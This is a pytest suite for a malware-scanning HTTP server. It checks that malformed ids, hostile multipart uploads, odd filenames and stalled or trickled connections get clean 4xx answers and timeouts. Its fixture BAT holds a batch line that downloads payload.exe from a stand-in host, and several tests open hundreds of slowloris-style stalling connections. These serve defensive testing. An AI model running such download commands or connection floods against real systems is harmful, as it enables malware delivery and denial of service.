"""Hostile requests: every one is answered with a 4xx and a JSON message (never a 500, never a traceback
in the log), and connections that stall or send nothing are closed after [server] read_timeout."""

from __future__ import annotations

import contextlib
import json
import select
import selectors
import socket
import struct
import time
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import cast

import pytest

from .server import Server

BAT = b"@echo off\r\ncurl http://x.invalid/payload.exe -o %TEMP%\\p.exe\r\n"
FORM = "multipart/form-data; boundary={}"
MAX_JOB_ID = 2**63 - 1  # BIGINT
MAX_PARTS = 16


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    srv = Server(tmp_path_factory.mktemp("hostile"), '[server]\nmax_sample_size = "1MiB"\n')
    yield srv
    srv.stop()


def log_mark(server: Server) -> int:
    """Where the server's log ends now, so a test checks only what it caused."""
    return (server.tmp / "server.log").stat().st_size


def assert_no_crash(server: Server, since: int = 0) -> None:
    with (server.tmp / "server.log").open("rb") as log:
        log.seek(since)
        text = log.read().decode("utf-8", "replace")
    assert "Traceback" not in text and "Exception in ASGI application" not in text, text


def form(boundary: str, disposition: str, content: bytes = BAT) -> bytes:
    return (f"--{boundary}\r\nContent-Disposition: form-data; {disposition}\r\n"
            f"Content-Type: application/octet-stream\r\n\r\n").encode() + content + f"\r\n--{boundary}--\r\n".encode()


def test_read_timeout_setting() -> None:
    from mailowl.config import ConfigError, load_config

    assert load_config(environ={}).server.read_timeout == 30
    assert load_config(environ={"MAILOWL_SERVER_READ_TIMEOUT": "2m"}).server.read_timeout == 120
    for bad, why in ((0, "greater than or equal to 1"), ("soon", "expected a duration"), (7200, "less than")):
        with pytest.raises(ConfigError) as caught:
            load_config(environ={}, overrides={"server": {"read_timeout": bad}})
        assert "[server] read_timeout" in str(caught.value) and why in str(caught.value)


# job ids -------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("raw", ["1_0", "+1", "%D9%A3", "1" * 5000, "9223372036854775808", "007", "-1", "%201"])
def test_bad_job_ids_are_400_on_every_route(server: Server, raw: str) -> None:
    mark = log_mark(server)
    for path in (f"/v1/report/{raw}", f"/v2/jobs/{raw}"):
        status, payload, headers = server.request("GET", path)
        assert status == 400, (path, payload)
        assert headers["content-type"] == "application/json" and "Job id" in payload["message"]
    assert_no_crash(server, mark)


def test_job_ids_that_int_would_misread_are_not_other_jobs(server: Server) -> None:
    mark = log_mark(server)
    status, payload, _ = server.scan(BAT, "one.bat")
    job_id = payload["job_id"]
    server.verdict(job_id)
    assert server.request("GET", f"/v1/report/{job_id}")[0] == 200
    assert server.request("GET", f"/v2/jobs/{job_id}")[0] == 200
    arabic_indic = urllib.parse.quote("".join(chr(0x0660 + int(d)) for d in str(job_id)))
    for alias in (f"+{job_id}", f"0{job_id}", f"{job_id}%20", f"0_{job_id}", arabic_indic):
        assert server.request("GET", f"/v1/report/{alias}")[0] == 400, alias
        assert server.request("GET", f"/v2/jobs/{alias}")[0] == 400, alias
    assert server.request("GET", "/v1/report/0")[:2] == (400, {"message": "job ID missing from request"})
    assert_no_crash(server, mark)


def test_bad_support_ids_are_400(server: Server) -> None:
    mark = log_mark(server)
    for raw in ("%00", "a" * 33, "mo-%0D%0Aevil", "%D9%A3", "a%20b"):
        status, payload, _ = server.request("GET", f"/v2/messages/{raw}")
        assert status == 400 and "Support id must be" in payload["message"], raw
    assert server.request("GET", "/v2/messages/mo-0123456789ab")[0] == 404
    assert_no_crash(server, mark)


def test_v1_report_zero_keeps_peekaboo_text(server: Server) -> None:
    mark = log_mark(server)
    assert server.request("GET", "/v1/report/0")[:2] == (400, {"message": "job ID missing from request"})
    assert server.request("GET", "/v1/report/")[:2] == (400, {"message": "job ID missing from request"})
    assert server.request("GET", f"/v1/report/{MAX_JOB_ID}")[0] == 404
    assert_no_crash(server, mark)


# uploads -------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("path", ["/v1/scan", "/v2/scan"])
def test_long_boundary_is_a_json_400(server: Server, path: str) -> None:
    mark = log_mark(server)
    boundary = "b" * 300
    body = form(boundary, 'name="file"; filename="a.bat"')
    status, payload, headers = server.request("POST", path, body, {"Content-Type": FORM.format(boundary)})
    assert status == 400 and headers["content-type"] == "application/json"
    assert payload["message"].startswith("Invalid MIME structure in request") and "300 characters" in payload["message"]
    ok = "b" * 256  # python-multipart's ceiling is still accepted
    assert server.request("POST", path, form(ok, 'name="file"; filename="a.bat"'),
                          {"Content-Type": FORM.format(ok)})[0] in (200, 202)
    assert_no_crash(server, mark)


@pytest.mark.parametrize(("param", "expected"), [
    ('filename="=?x-bogus?Q?=ff?="', "=?x-bogus?Q?=ff?="),
    ('filename="=?utf-8?Q?=ff?=.bat"', "=?utf-8?Q?=ff?=.bat"),
    ('filename="=?utf-8?B?w7xiZXIuYmF0?="', "über.bat"),
    ('filename="=?utf-7?Q?+2D0-.bat?="', "=?utf-7?Q?+2D0-.bat?="),  # decodes to a lone surrogate
    ("filename*=utf-7''%2B2D0-.bat", "\ufffd\ufffd\ufffd.bat"),
    ("filename*=utf-8''evil%00.bat", "evil.bat"),  # NUL: PostgreSQL would refuse the row
])
@pytest.mark.parametrize("path", ["/v1/scan", "/v2/scan"])
def test_undecodable_encoded_word_filename_is_kept_as_written(server: Server, path: str, param: str,
                                                              expected: str) -> None:
    mark = log_mark(server)
    # the name comes from the mail's sender: refusing it would make the attachment unscannable
    status, payload, _ = server.request("POST", path, form("zz", f'name="file"; {param}'),
                                        {"Content-Type": FORM.format("zz")})
    assert status in (200, 202), payload
    job_id = payload["job_id"]
    job = server.verdict(job_id)
    assert job["sample"]["filename"] == expected
    assert_no_crash(server, mark)


def test_too_many_parts_and_huge_part_headers_are_400(server: Server) -> None:
    mark = log_mark(server)
    many = "".join(f'--zz\r\nContent-Disposition: form-data; name="f{i}"\r\n\r\nx\r\n' for i in range(MAX_PARTS + 5))
    status, payload, _ = server.request("POST", "/v1/scan", (many + "--zz--\r\n").encode(),
                                        {"Content-Type": FORM.format("zz")})
    assert (status, payload) == (400, {"message": 'Invalid number of fields in form, we accept only one field "file"'})
    fat = form("zz", 'name="file"; filename="' + "a" * 100_000 + '"')
    status, payload, _ = server.request("POST", "/v2/scan", fat, {"Content-Type": FORM.format("zz")})
    assert status == 400 and "Maximum header size exceeded" in payload["message"]
    assert_no_crash(server, mark)
    with (server.tmp / "server.log").open("rb") as log:  # the client got the detail; the log stays quiet
        log.seek(mark)
        assert b"python_multipart" not in log.read()


def test_unparsable_http_is_a_json_400(server: Server) -> None:
    mark = log_mark(server)
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as sock:
        sock.sendall(b"GET /ping HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999999999\r\n\r\n")
        status, _headers, body = read_response(sock)
    assert status == 400 and "message" in json.loads(body)
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as sock:
        sock.sendall(b"\x16\x03\x01 not http at all\r\n\r\n")
        status, _headers, body = read_response(sock)
    assert status == 400 and json.loads(body)["message"].startswith("Malformed HTTP request")
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as sock:
        sock.sendall("GET /v1/report/\u0663 HTTP/1.1\r\nHost: x\r\n\r\n".encode())  # raw UTF-8 in the URL
        status, _headers, body = read_response(sock)
    assert status == 400 and "message" in json.loads(body)
    assert server.request("GET", "/ping")[0] == 200
    assert_no_crash(server, mark)


@pytest.mark.parametrize("path", ["/v1/scan", "/v2/scan"])
def test_client_disconnecting_during_upload_leaves_no_traceback(server: Server, path: str) -> None:
    mark = log_mark(server)
    for abort in (False, True):
        sock = socket.create_connection(("127.0.0.1", server.port), timeout=30)
        head = form("zz", 'name="file"; filename="a.bin"', b"")[:-10]
        sock.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: {FORM.format('zz')}\r\n"
                     f"Content-Length: 500000\r\n\r\n".encode() + head + b"x" * 100_000)
        if abort:  # RST instead of FIN
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.close()
    # later requests go through the same event loop after the disconnects: give it a few turns to log
    for _ in range(5):
        assert server.request("GET", "/ping")[0] == 200
        time.sleep(0.2)
    assert_no_crash(server, mark)


# read deadline and idle connections -----------------------------------------------------------------------------

def read_response(sock: socket.socket) -> tuple[int, dict[str, str], bytes]:
    """One HTTP response read to the end of its body; (0, {}, b"") if the server closed without one."""
    data = b""
    while b"\r\n\r\n" not in data:
        more = sock.recv(65536)
        if not more:
            return 0, {}, b""
        data += more
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = {k.strip().lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:])}
    length = int(headers.get("content-length", "0"))
    while len(body) < length:
        more = sock.recv(65536)
        if not more:
            break
        body += more
    return int(lines[0].split()[1]), headers, body


def _stalling_sockets(port: int, count: int) -> list[tuple[str, socket.socket]]:
    """``count`` connections in turn: silent, stopped in the headers, stopped in the body, idle after a request."""
    kinds = ("silent", "headers", "body", "keepalive")
    out = []
    for i in range(count):
        kind = kinds[i % len(kinds)]
        sock = socket.create_connection(("127.0.0.1", port), timeout=30)
        if kind == "headers":
            sock.sendall(b"GET /ping HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        elif kind == "body":
            sock.sendall(f"POST /v1/scan HTTP/1.1\r\nHost: x\r\nContent-Type: {FORM.format('zz')}\r\n"
                         "Content-Length: 10000\r\n\r\n--zz\r\nContent-Disposition: form-data; ".encode())
        elif kind == "keepalive":
            sock.sendall(b"GET /ping HTTP/1.1\r\nHost: x\r\n\r\n")
            assert read_response(sock)[0] == 200
        out.append((kind, sock))
    return out


def _wait_closed(sockets: list[tuple[str, socket.socket]], within: float) -> dict[str, list[bytes]]:
    """What each connection received until the server closed it; fails if any stays open ``within`` seconds."""
    got: dict[int, bytes] = {}
    sel = selectors.DefaultSelector()
    for kind, sock in sockets:
        sock.setblocking(False)
        sel.register(sock, selectors.EVENT_READ, kind)
    received: dict[str, list[bytes]] = {}
    deadline = time.monotonic() + within
    open_count = len(sockets)
    while open_count and time.monotonic() < deadline:
        for key, _ in sel.select(timeout=1):
            sock = cast(socket.socket, key.fileobj)
            try:
                data = sock.recv(65536)
            except ConnectionResetError:
                data = b""
            if data:
                got[sock.fileno()] = got.get(sock.fileno(), b"") + data
                continue
            received.setdefault(key.data, []).append(got.pop(sock.fileno(), b""))
            sel.unregister(sock)
            open_count -= 1
    sel.close()
    assert open_count == 0, f"{open_count} connection(s) still open after {within} s"
    return received


def test_stalled_and_silent_connections_are_closed_after_read_timeout(tmp_path: Path) -> None:
    srv = Server(tmp_path, "[server]\nread_timeout = 1\n")
    sockets = _stalling_sockets(srv.port, 500)
    try:
        received = _wait_closed(sockets, 60)
        assert received["silent"] == [b""] * 125  # nothing asked, nothing answered
        assert received["keepalive"] == [b""] * 125
        for kind in ("headers", "body"):
            assert len(received[kind]) == 125
            for answer in received[kind]:
                head, _, body = answer.partition(b"\r\n\r\n")
                assert head.startswith(b"HTTP/1.1 408 "), answer
                message = json.loads(body)["message"]
                assert f"Request {kind} not received completely within 1 s" in message
        assert srv.request("GET", "/ping")[0] == 200
        assert_no_crash(srv)
    finally:
        for _, sock in sockets:
            sock.close()
        srv.stop()


def test_trickled_headers_do_not_keep_a_connection(tmp_path: Path) -> None:
    # one header byte at a time keeps the connection busy but never finishes: the header deadline is total
    srv = Server(tmp_path, "[server]\nread_timeout = 2\n")
    try:
        with socket.create_connection(("127.0.0.1", srv.port), timeout=30) as sock:
            sock.sendall(b"GET /ping HTTP/1.1\r\nHost: x\r\n")
            answer = b""
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline:
                # read what the server said before sending more: writing to a connection the server has
                # closed makes it reset, and a reset can discard its answer before the client reads it
                if select.select([sock], [], [], 0.2)[0]:
                    try:
                        more = sock.recv(65536)
                    except OSError:
                        break
                    if not more:
                        break
                    answer += more
                    continue
                try:
                    sock.sendall(b"X-A: b\r\n")
                except OSError:
                    with contextlib.suppress(OSError):
                        answer += sock.recv(65536)
                    break
            assert answer.startswith(b"HTTP/1.1 408 "), answer
        assert_no_crash(srv)
    finally:
        srv.stop()


def test_slow_but_steady_upload_is_not_cut(tmp_path: Path) -> None:
    # the body deadline is per pause, not for the whole body: a slow link may take longer than read_timeout
    srv = Server(tmp_path, "[server]\nread_timeout = 3\n")
    try:
        body = form("zz", 'name="file"; filename="slow.bat"')
        with socket.create_connection(("127.0.0.1", srv.port), timeout=30) as sock:
            sock.sendall(f"POST /v1/scan HTTP/1.1\r\nHost: x\r\nContent-Type: {FORM.format('zz')}\r\n"
                         f"Content-Length: {len(body)}\r\n\r\n".encode())
            started = time.monotonic()
            pieces = [body[i:i + 4] for i in range(0, len(body), 4)]
            for piece in pieces:
                sock.sendall(piece)
                time.sleep(0.2)
            assert time.monotonic() - started > 3  # the premise, not a speed check: longer than read_timeout
            status, _, payload = read_response(sock)
        assert status == 200 and "job_id" in json.loads(payload)
    finally:
        srv.stop()


def test_500_idle_connections_do_not_stop_the_api(tmp_path: Path) -> None:
    srv = Server(tmp_path, "[server]\nread_timeout = 600\n")
    sockets: list[tuple[str, socket.socket]] = []
    try:
        sockets = _stalling_sockets(srv.port, 500)
        status, payload, _ = srv.scan(BAT, "busy.bat")
        assert status == 200
        assert srv.verdict(payload["job_id"])["result"] == "bad"
        assert srv.request("GET", f"/v1/report/{payload['job_id']}")[0] == 200
        # and the idle ones were all still held open while that happened
        still_open = 0
        for _, sock in sockets:
            sock.setblocking(False)
            try:
                sock.recv(1)
            except BlockingIOError:
                still_open += 1
        assert still_open == 500
        assert_no_crash(srv)
    finally:
        for _, sock in sockets:
            sock.close()
        srv.stop()


def test_odd_filenames_on_every_database(store_url: str, tmp_path: Path) -> None:
    # a NUL would make PostgreSQL refuse the row (and the group commit around it); a lone surrogate
    # would break hashing the identity: neither may reach the store, on any backend
    srv = Server(tmp_path, f'[store]\nurl = "{store_url}"\n')
    try:
        names = {"filename*=utf-8''evil%00.bat": "evil.bat",
                 "filename*=utf-7''%2B2D0-.bat": "\ufffd\ufffd\ufffd.bat",
                 'filename="plain.bat"': "plain.bat"}
        for param, expected in names.items():
            body = form("zz", f'name="file"; {param}').replace(b"application/octet-stream", b"text/x-\x00bat")
            status, payload, _ = srv.request("POST", "/v1/scan", body, {"Content-Type": FORM.format("zz")})
            assert status == 200, payload
            job = srv.verdict(payload["job_id"])
            assert job["sample"]["filename"] == expected and job["result"] == "bad"
            assert job["sample"]["type_declared"] == "text/x-bat"
        assert_no_crash(srv)
    finally:
        srv.stop()
